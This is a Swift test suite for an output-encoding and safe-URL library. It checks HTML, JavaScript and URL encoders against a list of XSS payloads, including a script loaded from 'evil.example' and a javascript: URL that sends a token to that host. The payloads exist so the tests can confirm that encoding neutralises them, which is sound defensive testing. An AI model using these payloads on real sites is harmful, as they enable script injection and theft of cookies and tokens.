import BulwarkTestHelpers
import Foundation
import Testing

@testable import BulwarkEncoding

enum EncodingSamples {
    /// Characters that matter to some context, plain text, and non-ASCII of every UTF-8 length.
    static let alphabet: [Character] = Array(
        "abcXYZ019 \t\n\r<>&\"'`=/\\:;%+?#@$.,-_~!(){}[]\u{0}\u{1}\u{7F}é€😀\u{2028}\u{2029}\u{FFFD}\u{85}ن"
    )

    /// A random string of up to `maximumLength` characters, `plainShare` of them plain letters.
    static func randomString(
        _ generator: inout SeededGenerator,
        maximumLength: Int = 64,
        plainShare: Double = 0.5
    ) -> String {
        let length = Int.random(in: 0...maximumLength, using: &generator)
        var text = ""
        for _ in 0..<length {
            if Double.random(in: 0..<1, using: &generator) < plainShare {
                text.append(Character(UnicodeScalar(UInt8.random(in: 97...122, using: &generator))))
            } else {
                text.append(self.alphabet.randomElement(using: &generator)!)
            }
        }
        return text
    }

    /// OWASP XSS filter evasion cheat sheet style payloads.
    static let xssVectors: [String] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "\"><script>alert(document.cookie)</script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "` onmouseover=`alert(1)",
        "x onerror=alert(1)",
        "javascript:alert(1)",
        "<img src=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<svg/onload=alert(1)>",
        "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "</textarea><script>alert(1)</script>",
        "<!--<script>alert(1)//-->",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "\u{0}<script>",
        "';alert(String.fromCharCode(88,83,83))//",
        "</script><script>alert(1)</script>",
        "${alert(1)}",
        "\\';alert(1)//",
        "\u{2028}alert(1)",
        "<a href=\"jav&#x09;ascript:alert(1)\">",
    ]
}

// MARK: - Reference decoders (test only)

/// Decodes the character references the HTML encoders write.
func decodeHTML(_ text: String) -> String {
    var result = ""
    var rest = Substring(text)
    while let ampersand = rest.firstIndex(of: "&") {
        result += rest[..<ampersand]
        guard let semicolon = rest[ampersand...].firstIndex(of: ";") else {
            result += rest[ampersand...]
            return result
        }
        let entity = rest[rest.index(after: ampersand)..<semicolon]
        switch entity {
        case "amp": result += "&"
        case "lt": result += "<"
        case "gt": result += ">"
        case "quot": result += "\""
        case "#39": result += "'"
        default:
            if entity.hasPrefix("#x"), let value = UInt32(entity.dropFirst(2), radix: 16),
                let scalar = Unicode.Scalar(value)
            {
                result.unicodeScalars.append(scalar)
            } else {
                result += rest[ampersand...semicolon]
            }
        }
        rest = rest[rest.index(after: semicolon)...]
    }
    return result + rest
}

/// Decodes the escapes the JavaScript encoder writes, as a JavaScript engine would.
func decodeJavaScript(_ text: String) -> String {
    var scalars = Array(text.unicodeScalars)
    var result = String.UnicodeScalarView()
    var index = 0
    while index < scalars.count {
        let scalar = scalars[index]
        guard scalar == "\\", index + 1 < scalars.count else {
            result.append(scalar)
            index += 1
            continue
        }
        let next = scalars[index + 1]
        switch next {
        case "n":
            result.append("\n")
            index += 2
        case "r":
            result.append("\r")
            index += 2
        case "t":
            result.append("\t")
            index += 2
        case "\\":
            result.append("\\")
            index += 2
        case "x":
            let hex = String(String.UnicodeScalarView(scalars[(index + 2)..<(index + 4)]))
            result.append(Unicode.Scalar(UInt8(hex, radix: 16)!))
            index += 4
        case "u":
            let hex = String(String.UnicodeScalarView(scalars[(index + 2)..<(index + 6)]))
            result.append(Unicode.Scalar(UInt32(hex, radix: 16)!)!)
            index += 6
        default:
            result.append(next)
            index += 2
        }
    }
    scalars = []
    return String(result)
}

/// What HTML does not allow in a document, which the HTML encoders replace with U+FFFD.
func replacingForbiddenControls(_ text: String) -> String {
    String(
        String.UnicodeScalarView(
            text.unicodeScalars.map { scalar in
                switch scalar.value {
                case 0x09, 0x0A, 0x0C, 0x0D: return scalar
                case 0x00...0x1F, 0x7F: return "\u{FFFD}"
                default: return scalar
                }
            }
        )
    )
}

// MARK: - HTML

@Suite("HTML encoders", .tags(.encoders))
struct HTMLEncoderTests {
    @Test("text: the five special characters become references")
    func textBasics() {
        #expect(HTMLEncoder.text("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;")
        #expect(HTMLEncoder.text("a & b \"c\" 'd'") == "a &amp; b &quot;c&quot; &#39;d&#39;")
        #expect(HTMLEncoder.text("&lt;") == "&amp;lt;")
        #expect(HTMLEncoder.text("tab\there\nnew\u{C}line\r") == "tab\there\nnew\u{C}line\r")
        #expect(HTMLEncoder.text("a\u{0}b\u{1}c\u{7F}d") == "a\u{FFFD}b\u{FFFD}c\u{FFFD}d")
        #expect(HTMLEncoder.text("Grüße, 東京 😀 `=") == "Grüße, 東京 😀 `=")
        #expect(HTMLEncoder.text("") == "")
    }

    @Test("text: invalid UTF-8 bytes become U+FFFD")
    func textInvalidUTF8() {
        #expect(HTMLEncoder.text(utf8: [0x3C, 0xFF, 0x3E]) == "&lt;\u{FFFD}&gt;")
        // An overlong "/" (C0 AF) and a lone continuation byte.
        #expect(HTMLEncoder.text(utf8: [0x61, 0xC0, 0xAF, 0x62, 0x80]) == "a\u{FFFD}\u{FFFD}b\u{FFFD}")
        // A truncated sequence at the end, and an encoded surrogate (ED A0 80).
        #expect(HTMLEncoder.text(utf8: [0x3C, 0xE2, 0x82]) == "&lt;\u{FFFD}")
        #expect(HTMLEncoder.text(utf8: [0xED, 0xA0, 0x80]) == "\u{FFFD}\u{FFFD}\u{FFFD}")
        #expect(HTMLEncoder.text(utf8: [0x00]) == "\u{FFFD}")
    }

    @Test("attribute: everything but letters, digits and , . - _ becomes &#xHH;")
    func attributeBasics() {
        #expect(
            HTMLEncoder.attribute("x\" onmouseover=\"alert(1)")
                == "x&#x22;&#x20;onmouseover&#x3D;&#x22;alert&#x28;1&#x29;"
        )
        #expect(HTMLEncoder.attribute("a-b_c.d,e") == "a-b_c.d,e")
        #expect(HTMLEncoder.attribute("`'<>&") == "&#x60;&#x27;&#x3C;&#x3E;&#x26;")
        #expect(HTMLEncoder.attribute("naïve ☃") == "naïve&#x20;☃")
        #expect(HTMLEncoder.attribute("\u{0}\t") == "\u{FFFD}&#x09;")
        #expect(HTMLEncoder.attribute(utf8: [0x22, 0xFE]) == "&#x22;\u{FFFD}")
    }

    @Test("XSS vectors are inert as text: no tag, quote or stray ampersand", arguments: EncodingSamples.xssVectors)
    func textVectors(_ vector: String) {
        let encoded = HTMLEncoder.text(vector)
        #expect(!encoded.contains("<") && !encoded.contains(">") && !encoded.contains("\"") && !encoded.contains("'"))
        #expect(!encoded.unicodeScalars.contains("\u{0}"))
        #expect(decodeHTML(encoded) == replacingForbiddenControls(vector))
    }

    @Test("XSS vectors are inert as attribute values, quoted or not", arguments: EncodingSamples.xssVectors)
    func attributeVectors(_ vector: String) {
        let encoded = HTMLEncoder.attribute(vector)
        // No character that ends a value or a tag in any quoting style, and no whitespace.
        for forbidden in ["\"", "'", "`", "<", ">", "=", " ", "\t", "\n", "\u{0}"] {
            #expect(!encoded.contains(forbidden))
        }
        #expect(decodeHTML(encoded) == replacingForbiddenControls(vector))
    }

    @Test("property: random strings round-trip through the text and attribute encoders")
    func roundTrips() {
        var generator = SeededGenerator(seed: 0xB01_0A4C)
        for _ in 0..<3000 {
            let text = EncodingSamples.randomString(&generator)
            let expected = replacingForbiddenControls(text)
            #expect(decodeHTML(HTMLEncoder.text(text)) == expected)
            #expect(decodeHTML(HTMLEncoder.attribute(text)) == expected)
            #expect(HTMLEncoder.text(utf8: Array(text.utf8)) == HTMLEncoder.text(text))
        }
    }

    @Test("long inputs: output sizing falls back to an exact count when the sample underestimates")
    func sizingFallback() {
        // The sample (first 4 KiB after the first special byte) is plain; the rest expands sixfold.
        let text = "<" + String(repeating: "a", count: 5000) + String(repeating: "\"", count: 20_000) + "end"
        let encoded = HTMLEncoder.text(text)
        #expect(
            encoded == "&lt;" + String(repeating: "a", count: 5000)
                + String(repeating: "&quot;", count: 20_000) + "end"
        )
        var generator = SeededGenerator(seed: 7)
        for _ in 0..<200 {
            let share = Double.random(in: 0.5...1, using: &generator)
            let text = EncodingSamples.randomString(&generator, maximumLength: 12_000, plainShare: share)
            #expect(decodeHTML(HTMLEncoder.attribute(text)) == replacingForbiddenControls(text))
            #expect(decodeJavaScript(JavaScriptEncoder.stringLiteral(text)) == text)
        }
    }
}

// MARK: - JavaScript

@Suite("JavaScript string encoder", .tags(.encoders))
struct JavaScriptEncoderTests {
    @Test("quotes, backslash, markup and line terminators are escaped")
    func basics() {
        #expect(
            JavaScriptEncoder.stringLiteral("</script><script>alert(1)</script>")
                == "\\x3C/script\\x3E\\x3Cscript\\x3Ealert(1)\\x3C/script\\x3E"
        )
        #expect(JavaScriptEncoder.stringLiteral("'\"`\\") == "\\x27\\x22\\x60\\\\")
        #expect(JavaScriptEncoder.stringLiteral("${x}&") == "\\x24{x}\\x26")
        #expect(JavaScriptEncoder.stringLiteral("a\nb\rc\td\u{0}e\u{7F}") == "a\\nb\\rc\\td\\x00e\\x7F")
        #expect(JavaScriptEncoder.stringLiteral("x\u{2028}y\u{2029}z") == "x\\u2028y\\u2029z")
        #expect(JavaScriptEncoder.stringLiteral("€ \u{2020} \u{2030} é") == "€ \u{2020} \u{2030} é")
        #expect(JavaScriptEncoder.stringLiteral(utf8: [0x27, 0xE2, 0x80]) == "\\x27\u{FFFD}")
    }

    @Test("XSS vectors cannot end the string, script or attribute", arguments: EncodingSamples.xssVectors)
    func vectors(_ vector: String) {
        let encoded = JavaScriptEncoder.stringLiteral(vector)
        for forbidden in ["\"", "'", "`", "<", ">", "&", "$", "\n", "\r", "\u{2028}", "\u{2029}", "\u{0}"] {
            #expect(!encoded.contains(forbidden))
        }
        // Every backslash starts an escape.
        #expect(decodeJavaScript(encoded) == vector)
    }

    @Test("property: random strings round-trip")
    func roundTrips() {
        var generator = SeededGenerator(seed: 0x15)
        for _ in 0..<3000 {
            let text = EncodingSamples.randomString(&generator)
            #expect(decodeJavaScript(JavaScriptEncoder.stringLiteral(text)) == text)
        }
    }
}

// MARK: - URL components

@Suite("URL component encoder", .tags(.encoders))
struct URLComponentEncoderTests {
    @Test("only unreserved characters stay; hex is upper-case")
    func basics() {
        #expect(URLComponentEncoder.encode("a b/c?d") == "a%20b%2Fc%3Fd")
        #expect(URLComponentEncoder.encode("AZaz09-._~") == "AZaz09-._~")
        #expect(URLComponentEncoder.encode("+&=#%") == "%2B%26%3D%23%25")
        #expect(URLComponentEncoder.encode("é😀") == "%C3%A9%F0%9F%98%80")
        #expect(URLComponentEncoder.encode("\u{0}") == "%00")
        #expect(URLComponentEncoder.encode(bytes: [0xFF, 0x41, 0x00]) == "%FFA%00")
    }

    @Test("decoding: %hh in either case; + stays +; malformed escapes and invalid UTF-8 are refused")
    func decoding() {
        #expect(URLComponentEncoder.decode("a%20b%2fc%3Fd") == "a b/c?d")
        #expect(URLComponentEncoder.decode("a+b") == "a+b")
        #expect(URLComponentEncoder.decode("100%") == nil)
        #expect(URLComponentEncoder.decode("%4") == nil)
        #expect(URLComponentEncoder.decode("%zz") == nil)
        #expect(URLComponentEncoder.decode("%FF") == nil)
        #expect(URLComponentEncoder.decodeBytes("%FF%00") == [0xFF, 0x00])
        #expect(URLComponentEncoder.decode("") == "")
    }

    @Test("property: encode then decode is the identity, for text and for bytes")
    func roundTrips() {
        var generator = SeededGenerator(seed: 0xC0FFEE)
        for _ in 0..<5000 {
            let text = EncodingSamples.randomString(&generator)
            let encoded = URLComponentEncoder.encode(text)
            #expect(
                encoded.utf8.allSatisfy { byte in
                    byte == UInt8(ascii: "%") || byte == UInt8(ascii: "-") || byte == UInt8(ascii: ".")
                        || byte == UInt8(ascii: "_") || byte == UInt8(ascii: "~")
                        || (byte >= 0x30 && byte <= 0x39) || ((byte | 0x20) >= 0x61 && (byte | 0x20) <= 0x7A)
                }
            )
            #expect(URLComponentEncoder.decode(encoded) == text)
            let bytes = (0..<Int.random(in: 0...32, using: &generator)).map { _ in
                UInt8.random(in: 0...255, using: &generator)
            }
            #expect(URLComponentEncoder.decodeBytes(URLComponentEncoder.encode(bytes: bytes)) == bytes)
        }
    }

    @Test("an encoded component survives inside a Foundation URL")
    func insideURL() throws {
        let value = "a/b?c#d&e=f g"
        let url = try #require(URL(string: "https://example.com/search?q=" + URLComponentEncoder.encode(value)))
        let query = try #require(URLComponents(url: url, resolvingAgainstBaseURL: false)?.queryItems?.first)
        #expect(query.value == value)
    }
}

// MARK: - Safe URLs

struct SafeURLCase: Sendable, CustomTestStringConvertible {
    let text: String
    let code: SafeURL.Refusal.Code?
    init(_ text: String, _ code: SafeURL.Refusal.Code?) {
        self.text = text
        self.code = code
    }
    var testDescription: String { "\(self.text.debugDescription) -> \(self.code?.description ?? "allowed")" }
}

@Suite("Safe URLs for URL attributes")
struct SafeURLTests {
    static let cases: [SafeURLCase] = [
        SafeURLCase("https://example.com/a?b=c#d", nil),
        SafeURLCase("HTTP://EXAMPLE.COM/", nil),
        SafeURLCase("hTTpS://example.com", nil),
        SafeURLCase("/relative/path", nil),
        SafeURLCase("relative/path?x=1:2", nil),
        SafeURLCase("//cdn.example.com/x.js", nil),
        SafeURLCase("#fragment", nil),
        SafeURLCase("?q=javascript:alert(1)", nil),
        SafeURLCase("https://bücher.example/straße", nil),
        SafeURLCase("javascript:alert(1)", .disallowedScheme),
        SafeURLCase("JaVaScRiPt:alert(1)", .disallowedScheme),
        SafeURLCase("vbscript:msgbox(1)", .disallowedScheme),
        SafeURLCase("data:text/html,<script>alert(1)</script>", .disallowedScheme),
        SafeURLCase("file:///etc/passwd", .disallowedScheme),
        SafeURLCase("mailto:a@example.com", .disallowedScheme),
        SafeURLCase("java\tscript:alert(1)", .controlCharacter),
        SafeURLCase("java\nscript:alert(1)", .controlCharacter),
        SafeURLCase("\u{1}javascript:alert(1)", .controlCharacter),
        SafeURLCase(" javascript:alert(1)", .whitespace),
        SafeURLCase("https://example.com/a b", .whitespace),
        SafeURLCase("java\u{0}script:alert(1)", .nullByte),
        SafeURLCase("https://example.com/\u{0}", .nullByte),
        SafeURLCase("jav&#x09;ascript:alert(1)", .characterReference),
        SafeURLCase("javascript&colon;alert(1)", .characterReference),
        SafeURLCase("&#106;avascript:alert(1)", .characterReference),
        SafeURLCase("/search?a=1&b=2:3", nil),
        SafeURLCase("https://example.com/?a=1&b=2", nil),
        SafeURLCase("1http://example.com", .invalidScheme),
        SafeURLCase("\u{200B}javascript:alert(1)", .invalidScheme),
        SafeURLCase("ｊavascript:alert(1)", .invalidScheme),
        SafeURLCase(":foo", .invalidScheme),
        SafeURLCase("", .empty),
    ]

    @Test(
        "http(s) and relative references are allowed; other schemes and ambiguous text are refused",
        arguments: cases
    )
    func decisions(_ testCase: SafeURLCase) {
        switch SafeURL.check(testCase.text) {
        case .success(let url):
            #expect(testCase.code == nil)
            #expect(url.string == testCase.text)
        case .failure(let refusal):
            #expect(refusal.code == testCase.code)
            #expect(!refusal.description.contains("alert"))
        }
        #expect((SafeURL(testCase.text) == nil) == (testCase.code != nil))
    }

    @Test("invalid UTF-8 is refused, never repaired")
    func invalidUTF8() {
        #expect(SafeURL(utf8: Array("https://example.com/".utf8) + [0xFF]) == nil)
        guard case .failure(let refusal) = SafeURL.check(utf8: [0x68, 0xC0, 0xAF]) else {
            Issue.record("invalid UTF-8 was accepted")
            return
        }
        #expect(refusal.code == .invalidUTF8)
        #expect(SafeURL(utf8: Array("https://example.com/é".utf8))?.string == "https://example.com/é")
    }

    @Test("a refusal names the scheme but not the URL")
    func refusalDescription() {
        guard case .failure(let refusal) = SafeURL.check("javascript:fetch('https://evil.example/?t='+token)") else {
            Issue.record("javascript: was accepted")
            return
        }
        #expect(refusal.scheme == "javascript")
        #expect(refusal.description.contains("\"javascript\""))
        #expect(!refusal.description.contains("evil"))
    }

    @Test("Foundation URLs: absoluteString is checked")
    func foundationURL() throws {
        #expect(SafeURL(try #require(URL(string: "https://example.com/x"))) != nil)
        #expect(SafeURL(try #require(URL(string: "javascript:alert(1)"))) == nil)
    }
}

// MARK: - SafeHTML

@Suite("SafeHTML")
struct SafeHTMLTests {
    @Test("the seeds' client-side injection: interpolated markup is shown, not rendered")
    func seedExample() {
        let injUserData = "<strong>123</strong>"
        let page = SafeHTML("Test \(injUserData) string")
        #expect(page.html == "Test &lt;strong&gt;123&lt;/strong&gt; string")
        #expect(page.description == page.html)
    }

    @Test("literal parts are kept; any interpolated value is encoded as text")
    func interpolation() {
        let name = "O'Brien & <Co>"
        let count = 3
        let html: SafeHTML = "<p class=\"x\">\(name) has \(count) items</p>"
        #expect(html.html == "<p class=\"x\">O&#39;Brien &amp; &lt;Co&gt; has 3 items</p>")
        let optional: String? = "<b>"
        #expect(SafeHTML("\(optional)").html == "Optional(&quot;&lt;b&gt;&quot;)")
        let literal: SafeHTML = "<br>"
        #expect(literal.html == "<br>")
    }

    @Test("raw is the explicit escape hatch; nested SafeHTML is not encoded twice")
    func rawAndNested() {
        let trusted = "<em>ok</em>"
        #expect(SafeHTML("<p>\(raw: trusted)</p>").html == "<p><em>ok</em></p>")
        let inner = SafeHTML("<b>\("<i>")</b>")
        #expect(SafeHTML("<div>\(inner)</div>").html == "<div><b>&lt;i&gt;</b></div>")
        #expect(SafeHTML(raw: "<hr>").html == "<hr>")
        #expect(SafeHTML(text: "<hr>").html == "&lt;hr&gt;")
        #expect((SafeHTML("<p>") + SafeHTML(text: "&") + "</p>").html == "<p>&amp;</p>")
        let items = ["<a>", "b"].map { SafeHTML("<li>\($0)</li>") }
        #expect(SafeHTML(joining: items, separator: "\n").html == "<li>&lt;a&gt;</li>\n<li>b</li>")
        var growing: SafeHTML = "<ul>"
        growing += SafeHTML("<li>\("x&y")</li>")
        #expect(growing.html == "<ul><li>x&amp;y</li>")
    }

    @Test("attribute interpolation cannot leave the value, quoted or unquoted", arguments: EncodingSamples.xssVectors)
    func attributeContext(_ vector: String) {
        let quoted = SafeHTML("<input value=\"\(attribute: vector)\">").html
        let unquoted = SafeHTML("<input value=\(attribute: vector)>").html
        // The only quotes, angle brackets, equals signs and spaces are the template's own.
        func structural(_ html: String) -> Int { html.filter { "\"'`<>= \t\n".contains($0) }.count }
        #expect(structural(quoted) == 6)
        #expect(structural(unquoted) == 4)
        #expect(decodeHTML(quoted) == "<input value=\"\(replacingForbiddenControls(vector))\">")
    }

    @Test("URL interpolation: javascript: and friends become an inert placeholder")
    func urlContext() throws {
        let safe = SafeHTML("<a href=\"\(url: "https://example.com/?a=1&b=2")\">x</a>").html
        #expect(safe == "<a href=\"https&#x3A;&#x2F;&#x2F;example.com&#x2F;&#x3F;a&#x3D;1&#x26;b&#x3D;2\">x</a>")
        #expect(decodeHTML(safe) == "<a href=\"https://example.com/?a=1&b=2\">x</a>")
        for vector in [
            "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\tscript:x",
            "data:text/html,<script>alert(1)</script>", "vbscript:x", "java\u{0}script:x",
        ] {
            let html = SafeHTML("<a href=\"\(url: vector)\">x</a>").html
            #expect(html == "<a href=\"\(SafeURL.refusedPlaceholder)\">x</a>")
        }
        let foundation = try #require(URL(string: "javascript:alert(1)"))
        #expect(SafeHTML("<img src=\(url: foundation)>").html == "<img src=\(SafeURL.refusedPlaceholder)>")
        let checked = try #require(SafeURL("/a b".replacingOccurrences(of: " ", with: "%20")))
        #expect(SafeHTML("<a href=\(url: checked)>").html == "<a href=&#x2F;a&#x25;20b>")
    }

    @Test("JavaScript and URL-component interpolation")
    func scriptAndComponentContexts() {
        let name = "'); alert(1); ('"
        let html = SafeHTML("<button onclick=\"greet('\(javaScript: name)')\">hi</button>").html
        #expect(html == "<button onclick=\"greet('\\x27); alert(1); (\\x27')\">hi</button>")
        let search = SafeHTML("<a href=\"/search?q=\(urlComponent: "a&b \"c\"")\">s</a>").html
        #expect(search == "<a href=\"/search?q=a%26b%20%22c%22\">s</a>")
    }

    @Test("property: a random value interpolated as text never adds a tag or an attribute")
    func randomText() {
        var generator = SeededGenerator(seed: 42)
        for _ in 0..<2000 {
            let value = EncodingSamples.randomString(&generator)
            let html = SafeHTML("<p>\(value)</p>").html
            #expect(html.filter { $0 == "<" || $0 == ">" }.count == 4)
            #expect(decodeHTML(String(html.dropFirst(3).dropLast(4))) == replacingForbiddenControls(value))
        }
    }
}
